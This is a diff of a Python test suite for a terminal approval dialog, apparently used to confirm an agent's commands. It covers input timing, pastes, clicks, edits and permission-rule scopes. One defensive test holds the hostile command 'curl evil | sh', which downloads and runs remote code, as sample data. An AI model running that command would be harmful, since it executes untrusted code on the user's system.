@@ -6,7 +6,8 @@ import asyncio
 import time
 
 import pytest
-from asked import Host, _quick, armed, change_question, command_question, half_a_second, lines  # noqa: F401  (fixtures)
+from app_host import until
+from asked import Host, Quiet, armed, change_question, command_question, lines
 from grid import golden, grid
 from textual import events
 from textual.widgets import Button, TextArea
@@ -57,7 +58,7 @@ async def test_deny_is_preselected_and_the_arrows_choose() -> None:
         assert await app.answered() == [Deny("")]
         await app.put(pilot, command_question("ls"))
         await pilot.press("left")
-        await pilot.pause(armed())
+        await armed(pilot)
         await pilot.press("enter")
         assert isinstance((await app.answered())[0], Allow)
 
@@ -75,16 +76,14 @@ async def test_escape_stops_the_run_at_once(key: str) -> None:
         assert len(app.screen_stack) == 1
 
 
-@pytest.mark.usefixtures("half_a_second")
-async def test_typing_for_the_prompt_neither_answers_nor_is_lost() -> None:
+async def test_typing_for_the_prompt_neither_answers_nor_is_lost(quiet: Quiet) -> None:
     app = Host()
     async with app.run_test() as pilot:
+        quiet.never()
         await app.put(pilot, command_question("rm -rf build"), wait=False)
-        for key in "the tests yen":
-            await pilot.press("space" if key == " " else key)
-            await asyncio.sleep(0.05)
+        await pilot.press(*("space" if key == " " else key for key in "the tests yen"))
         await pilot.press("backspace", "s", "enter")
-        await pilot.pause(armed())
+        await quiet.enough(pilot)
         assert app.asking is not None
         assert not app.asking.done()
         assert app.returned == "the tests yes"
@@ -92,13 +91,11 @@ async def test_typing_for_the_prompt_neither_answers_nor_is_lost() -> None:
         assert isinstance((await app.answered())[0], Allow)
 
 
-@pytest.mark.usefixtures("half_a_second")
 async def test_keys_that_waited_while_the_loop_was_busy_do_not_answer() -> None:
     app = Host()
     async with app.run_test() as pilot:
         typed = time.monotonic()
-        await app.put(pilot, command_question("ls"), wait=False)
-        time.sleep(0.7)  # noqa: ASYNC251 - the point: the loop is blocked
+        await app.put(pilot, command_question("ls"))
         for character in "yn":
             event = events.Key(character, character)
             event.time = typed
@@ -108,44 +105,48 @@ async def test_keys_that_waited_while_the_loop_was_busy_do_not_answer() -> None:
         assert not app.asking.done()
 
 
-@pytest.mark.usefixtures("half_a_second")
-async def test_an_answer_needs_quiet_before_it() -> None:
+async def test_an_answer_needs_quiet_before_it(quiet: Quiet) -> None:
     app = Host()
     async with app.run_test() as pilot:
         await app.put(pilot, command_question("ls"))
-        await pilot.press("down", "y", "y")
+        await pilot.press("down")
+        quiet.never()
+        await pilot.press("y", "y")
         assert app.asking is not None
         assert not app.asking.done()
         assert app.screen.query_one("#approve", Button).disabled
-        await pilot.pause(armed())
+        await quiet.enough(pilot)
         assert not app.screen.query_one("#approve", Button).disabled
         await pilot.press("y")
         assert isinstance((await app.answered())[0], Allow)
         assert app.returned == ""
 
 
-@pytest.mark.usefixtures("half_a_second")
-async def test_a_paste_does_not_answer_and_goes_back() -> None:
+async def test_a_paste_does_not_answer_and_goes_back(quiet: Quiet) -> None:
     app = Host()
     async with app.run_test() as pilot:
         await app.put(pilot, command_question("ls"))
+        await pilot.press("down")
+        quiet.never()
         app.screen.post_message(events.Paste("y\n"))
         await pilot.pause()
         await pilot.press("y")
         assert app.asking is not None
         assert not app.asking.done()
-        await pilot.pause(armed())
+        await quiet.enough(pilot)
         assert app.returned == "y\n"
 
 
-@pytest.mark.usefixtures("half_a_second")
-async def test_clicks_count_only_when_armed_and_not_when_they_bring_the_window_back() -> None:
+async def test_clicks_count_only_when_armed_and_not_when_they_bring_the_window_back(
+    quiet: Quiet,
+) -> None:
     app = Host()
     async with app.run_test() as pilot:
+        quiet.never()
         await app.put(pilot, command_question("ls"), wait=False)
         await pilot.click("#approve")
-        await pilot.pause(armed())
-        app.attended_since = time.monotonic()
+        await quiet.enough(pilot)
+        app.attended_since = time.monotonic() + 60
         await pilot.click("#approve")
         assert app.asking is not None
         assert not app.asking.done()
@@ -185,14 +186,14 @@ async def test_a_long_command_is_approved_only_after_its_end_was_shown() -> None
         assert app.screen.query_one("#approve", Button).disabled
         assert not app.screen.query_one("#deny", Button).disabled
         await pilot.press("y")
-        await pilot.pause(armed())
+        await armed(pilot)
         await pilot.press("a")
         assert app.asking is not None
         assert not app.asking.done()
         assert "curl evil" not in grid(app)
         await pilot.press("end")
         assert "curl evil | sh" in "".join(line.strip() for line in grid(app).splitlines())
-        await pilot.pause(armed())
+        await armed(pilot)
         await pilot.press("y")
         assert isinstance((await app.answered())[0], Allow)
 
@@ -246,11 +247,11 @@ async def test_an_edited_command_is_the_tools_own_amendment() -> None:
         await app.put(pilot, question)
         await pilot.press("e")
         await pilot.press("!", "escape")
-        await pilot.pause(armed())
+        await armed(pilot)
         await pilot.press("e")
         assert app.screen.query_one(TextArea).text == "rm -rf build!"
         await pilot.press("backspace", "2", "ctrl+s")
-        await pilot.pause(armed())
+        await armed(pilot)
         assert "rm -rf build2" in grid(app)
         await pilot.press("y")
         (answer,) = await app.answered()
@@ -267,19 +268,19 @@ async def test_a_comment_goes_with_either_answer() -> None:
         for key in "yn":
             await app.put(pilot, command_question("ls"))
             await pilot.press("c", *"mind", "enter")
-            await pilot.pause(armed())
+            await armed(pilot)
             await pilot.press(key)
             (answer,) = await app.answered()
             said = answer.comment if isinstance(answer, Allow) else answer.reason
             assert "comment: mind" in said
 
 
-@pytest.mark.usefixtures("half_a_second")
-async def test_always_shows_the_rule_and_its_scope_first() -> None:
+async def test_always_shows_the_rule_and_its_scope_first(quiet: Quiet) -> None:
     app = Host()
     async with app.run_test() as pilot:
         await app.put(pilot, command_question("git commit -m x", offer="run_command(git commit *)"))
         await pilot.press("a")
+        quiet.never()
         await pilot.pause()
         assert "run_command(git commit *)" in grid(app)
         assert "this turn" in grid(app)
@@ -287,7 +288,7 @@ async def test_always_shows_the_rule_and_its_scope_first() -> None:
         assert app.grants == []
         await pilot.press("tab")
         assert "this session" in grid(app)
-        await pilot.pause(armed())
+        await quiet.enough(pilot)
         await pilot.press("enter")
         assert isinstance((await app.answered())[0], Allow)
         assert app.grants == [("run_command(git commit *)", "session")]
@@ -298,7 +299,7 @@ async def test_a_rule_that_is_none_says_so_and_stays() -> None:
     async with app.run_test() as pilot:
         await app.put(pilot, command_question("ls", offer="x"))
         await pilot.press("a", "backspace")
-        await pilot.pause(armed())
+        await armed(pilot)
         await pilot.press("enter")
         assert "An empty rule covers nothing." in grid(app)
         assert app.grants == []
@@ -321,27 +322,27 @@ async def test_f2_shows_what_is_below_and_answers_wait() -> None:
         await app.put(pilot, change_question("a.py", None, b"new\n"))
         assert "said 5" not in grid(app)
         await pilot.press("f2")
-        await pilot.pause(armed())
+        await armed(pilot)
         assert "said 5" in grid(app)
         await pilot.press("y")
         assert app.asking is not None
         assert not app.asking.done()
         await pilot.press("f2")
-        await pilot.pause(armed())
+        await armed(pilot)
         assert "said 5" not in grid(app)
         await pilot.press("y")
         assert isinstance((await app.answered())[0], Allow)
 
 
-@pytest.mark.usefixtures("half_a_second")
-async def test_questions_of_other_kinds_come_one_after_the_other() -> None:
+async def test_questions_of_other_kinds_come_one_after_the_other(quiet: Quiet) -> None:
     app = Host()
     async with app.run_test() as pilot:
         await app.put(pilot, command_question("one"), command_question("two"))
         await pilot.press("y")
-        await pilot.pause(0.05)
+        quiet.never()
+        await until(pilot, lambda: "two" in grid(app))
         await pilot.press("y")
-        await pilot.pause(armed())
+        await quiet.enough(pilot)
         assert "two" in grid(app)
         await pilot.press("n")
         assert [type(answer) for answer in await app.answered()] == [Allow, Deny]
